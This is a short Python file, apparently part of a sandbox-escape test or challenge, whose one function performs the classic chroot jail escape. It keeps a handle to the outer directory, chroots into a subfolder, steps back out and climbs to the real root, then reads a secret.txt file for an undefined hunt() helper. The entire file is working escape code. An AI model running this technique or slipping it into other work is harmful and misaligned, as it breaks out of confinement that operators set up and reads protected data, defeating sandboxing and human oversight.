"""The old way out of a cage."""
# ruff: noqa

import os


def attack():
    os.makedirs("cage", exist_ok=True)
    up = os.open(".", os.O_RDONLY)
    os.chroot("cage")
    os.fchdir(up)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
    return hunt(open(FACTS["folder"] + "/secret.txt").read())
